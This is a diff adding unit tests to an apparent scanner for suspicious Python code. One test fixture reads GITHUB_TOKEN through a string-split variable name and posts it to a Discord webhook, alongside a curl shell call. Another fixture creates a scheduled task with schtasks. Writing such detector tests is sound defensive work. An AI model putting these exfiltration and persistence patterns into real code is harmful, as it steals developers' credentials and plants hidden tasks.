@@ -553,3 +553,34 @@ def test_every_path_rule_has_a_keyword() -> None:
     assert set(samples) == {rule[0] for rule in PATH_RULES}
     for label, text in samples.items():
         assert label in [rule[0] for rule in match_paths(text)], label
+
+
+def test_names_bound_to_constants_are_folded() -> None:
+    source = """\
+    import os, requests, subprocess
+    HOOK = "https://discord.com/api/webhooks/1/x"
+    VAR = "GITHUB_" + "TOKEN"
+    def send():
+        requests.post(HOOK, json={"t": os.environ[VAR]})
+    CMD = "curl"
+    CMD += " -s"
+    subprocess.run(CMD, shell=True)
+    """
+    assert [(f.type.value, f.api, f.line, f.normalized, f.reason) for f in findings(source)] == [
+        ("suspicious-url", "url:discord.com/api/webhooks", 2, "webhook endpoint",
+         "Refers to a webhook endpoint (discord.com/api/webhooks)."),
+        ("network", "requests.post", 5, "discord.com", "Makes an HTTP request with requests.post."),
+        ("env-secrets", "os.environ[GITHUB_TOKEN]", 5, "",
+         "Reads the GITHUB_TOKEN environment variable."),
+        ("shell", "subprocess.run", 8, "*",
+         "Starts a shell command with subprocess.run(shell=True)."),
+    ]
+
+
+def test_persistence_commands_are_system_hooks() -> None:
+    source = "import subprocess\nsubprocess.call(['schtasks', '/create', '/tn', 'u'])\n"
+    assert rows(source) == [
+        ("shell", "subprocess.call", 2, "Starts a process with subprocess.call."),
+        ("system-hooks", "command:schtasks", 2,
+         "Installs a scheduled or startup task by running schtasks."),
+    ]
